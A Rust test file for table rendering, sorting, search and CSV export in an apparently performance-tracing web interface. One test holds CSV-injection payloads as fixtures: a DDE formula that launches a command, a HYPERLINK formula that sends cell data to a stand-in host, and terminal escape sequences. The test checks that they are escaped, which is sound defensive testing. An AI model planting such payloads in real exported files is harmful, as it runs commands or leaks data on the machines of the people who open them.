use crate::table::*;
use pathlight_base::format;
use std::cmp::Ordering;

struct Row {
    endpoint: (&'static str, &'static str),
    requests: u64,
    share: Option<f64>,
    why: &'static str,
}

fn table() -> Table<Row> {
    let columns = vec![
        Column::field("number", |row: &Row| (row.requests * 2).into()),
        Column::endpoint("Endpoint", "Its name", |row: &Row| row.endpoint).csv(&["service", "operation"]),
        Column::count("requests", "Requests", "How many", |row: &Row| row.requests.into()).csv(&["requests"]),
        Column::share("share", "Share", "Of all", |row: &Row| row.share.into()).low(2),
        Column::text("why", "Why", "The reason", |row: &Row| row.why.into())
            .unsorted()
            .csv_as(&["why", "length"], |row| vec![row.why.to_owned(), row.why.len().to_string()]),
    ];
    let mut table = Table::new("rows", "Rows", ("share", true), columns)
        .with_attributes(|row| endpoint_attributes("row", row.endpoint, row.requests))
        .search(|row, finder| finder.fits_endpoint(row.endpoint))
        .share(|row| row.share.unwrap_or(0.0));
    table.set_rows(vec![
        Row { endpoint: ("b", "GET /y"), requests: 3, share: Some(0.25), why: "a, \"b\"" },
        Row { endpoint: ("a", "GET /y"), requests: 1_000, share: None, why: "" },
        Row { endpoint: ("c", "GET /x"), requests: 3, share: Some(0.5), why: "line\nbreak" },
    ]);
    table
}

fn by(column: &str, descending: bool) -> Sort {
    Sort { column: column.to_owned(), descending }
}

#[test]
fn from_one_column_follow_head_cell_order_and_csv() {
    let table = table();
    let heads: Vec<(&str, bool, u8)> =
        table.heads().iter().map(|head| (head.key, head.sorts, head.priority)).collect();
    assert_eq!(
        heads[1..],
        [("endpoint", true, 1), ("requests", true, 1), ("share", true, 2), ("why", false, 1)]
    );
    assert_eq!(heads[0].2, 0, "what stands in files only is not shown");
    assert_eq!(table.cell(2, 1), CellText::Number("1\u{202f}000".to_owned(), "1000".to_owned()));
    assert_eq!(table.cell(3, 0), CellText::Bar(0.25, format::share(0.25)));
    assert_eq!(table.cell(3, 1), CellText::Text(format::DASH.to_owned()));
    assert_eq!(table.attributes(2)[3], ("data-value", "3".to_owned()));
    assert_eq!(
        table.csv(),
        "number,service,operation,requests,why,length\r\n\
         6,b,GET /y,3,\"a, \"\"b\"\"\",6\r\n\
         2000,a,GET /y,1000,,0\r\n\
         6,c,GET /x,3,line break,10\r\n"
    );
}

#[test]
fn no_field_of_a_file_is_a_formula_or_steers_a_terminal() {
    let written = |field: &str| {
        let mut line = String::new();
        write_line(&[field.to_owned()], &mut line);
        line.trim_end_matches("\r\n").to_owned()
    };
    for (field, line) in [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("=HYPERLINK(\"http://e/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://e/?\"\"&A1,\"\"x\"\")\""),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "' =1+1"),
        ("\r\n=1+1", "'  =1+1"),
        ("\u{ff1d}1+1", "'\u{ff1d}1+1"),
        ("\u{feff}=1", "' =1"),
        ("a\u{1b}[31m\u{9b}2J\u{7}\u{202e}b\nc", "a [31m 2J  b c"),
        // Numbers stay numbers, and what merely contains a mark is as it was.
        ("-12.5", "-12.5"),
        ("+0.5", "+0.5"),
        ("-1e-7", "-1e-7"),
        ("a=b", "a=b"),
        ("GET /a-b", "GET /a-b"),
    ] {
        assert_eq!(written(field), line, "{field:?}");
    }
}

#[test]
fn rows_are_sorted_as_asked_for_else_naturally_and_equal_ones_stay_as_they_came() {
    let table = table();
    assert_eq!(table.order(None, None), [2, 0, 1], "what has no share comes last");
    assert_eq!(table.order(Some(&by("share", false)), None), [1, 0, 2]);
    assert_eq!(table.order(Some(&by("requests", false)), None), [0, 2, 1]);
    assert_eq!(table.order(Some(&by("requests", true)), None), [1, 0, 2]);
    assert_eq!(table.order(Some(&by("endpoint", false)), None), [2, 1, 0], "by operation, then service");
    for unknown in ["why", "nonsense", ""] {
        assert_eq!(table.order(Some(&by(unknown, false)), None), [2, 0, 1], "{unknown}");
    }
    assert_eq!(table.order(None, Some(&[true, false, true])), [2, 0]);
}

#[test]
fn a_search_marks_rows_and_says_which_share_they_are() {
    let table = table();
    assert_eq!(table.find(&Finder::of_text("  ")), TableMatches::default());
    let found = table.find(&Finder::of_text("get X"));
    assert_eq!(found, TableMatches { hits: Some(vec![false, false, true]), matches: 1, share: Some(0.5) });
    assert_eq!(table.find(&Finder::of_text("/Y")).matches, 2);
    assert_eq!(
        table.find(&Finder::of_text("nowhere")),
        TableMatches { hits: Some(vec![false; 3]), matches: 0, share: Some(0.0) }
    );
}

#[test]
fn numbers_are_said_in_their_unit_and_compared_exactly() {
    let exact = [Number::None, Number::Whole(u128::MAX - 1), Number::Whole(u128::MAX)];
    assert!(exact.windows(2).all(|pair| pair[0].compare(pair[1]) == Ordering::Less));
    assert_eq!(Number::from(-0.0).compare(Number::from(0u64)), Ordering::Equal);
    assert_eq!(Unit::Duration.words(1_500u64.into()), format::duration(1_500.0));
    assert_eq!(Unit::Change.words(2.0.into()), format::change(2.0));
    assert_eq!(Unit::Moment.words(1_234_567u64.into()), format::moment(1_234_000));
    assert_eq!(Unit::Share.words(None::<f64>.into()), format::DASH);
}

#[test]
fn a_search_text_is_looked_for_word_by_word_whatever_the_case() {
    assert!(fits("get shop", &["Shop", "GET /cart"]));
    assert!(!fits("get shop", &["GET /cart"]));
    assert!(fits("", &[]));
}

#[test]
fn matches_are_stepped_through_round_and_round() {
    let list = [5, 2, 9];
    let steps = |from, forward| neighbour(&list, from, forward);
    assert_eq!([steps(None, true), steps(Some(5), true), steps(Some(9), true)], [Some(5), Some(2), Some(5)]);
    assert_eq!(
        [steps(None, false), steps(Some(5), false), steps(Some(7), false)],
        [Some(9), Some(9), Some(9)]
    );
    assert_eq!([neighbour(&[], None, true), neighbour(&[], Some(1), false)], [None, None]);
}

/// Width of a phone in CSS pixels, without the menu of columns and the bar that scrolls.
const PHONE_PX: f64 = 390.0 - 40.0;

#[test]
fn every_table_has_room_for_its_names_on_a_phone() {
    let heads: [Vec<Head>; 33] = [
        crate::anomalies::table().heads(),
        crate::compare::services::places().heads(),
        crate::compare::services::services().heads(),
        crate::compare::changes().heads(),
        crate::deployments::table().heads(),
        crate::diagnosis::tables::changed_places().heads(),
        crate::diagnosis::tables::layers().heads(),
        crate::diagnosis::tables::positions().heads(),
        crate::diagnosis::tables::slow_tail().heads(),
        crate::endpoints::sums().heads(),
        crate::endpoints::ranking().heads(),
        crate::errors::table().heads(),
        crate::findings::top().heads(),
        crate::findings::types().heads(),
        crate::flame::bands::table().heads(),
        crate::flame::table::table().heads(),
        crate::flow::capacity::table().heads(),
        crate::flow::headroom::table().heads(),
        crate::flow::map::table().heads(),
        crate::flow::parallelise::table().heads(),
        crate::flow::savings::table().heads(),
        crate::flow::table().heads(),
        crate::flow::target::table().heads(),
        crate::flow::variants::table().heads(),
        crate::heatmap::table().heads(),
        crate::instrument::table().heads(),
        crate::queues::sides_table().heads(),
        crate::queues::table().heads(),
        crate::requests_list::table().heads(),
        crate::split::table::table().heads(),
        crate::timeline::nearest::table().heads(),
        crate::timeline::table().heads(),
        crate::trend::table().heads(),
    ];
    let mut narrow = Vec::new();
    for heads in heads {
        let heads: Vec<&Head> = heads.iter().filter(|head| head.priority > 0).collect();
        let shown = ColumnChoices::default().fit(heads.iter().map(|head| (*head, true)), PHONE_PX);
        let shown: Vec<&&Head> =
            heads.iter().zip(shown).filter(|(_, is)| *is).map(|(head, _)| head).collect();
        let px =
            |head: &&&Head| if head.width == Width::Wide { columns::LEAST_NAME_PX } else { head.width.px() };
        let keys: Vec<(&str, f64)> = shown.iter().map(|head| (head.key, px(head))).collect();
        if shown.iter().map(px).sum::<f64>() > PHONE_PX {
            narrow.push(format!("{keys:?}"));
        }
    }
    assert!(narrow.is_empty(), "{narrow:#?}");
}
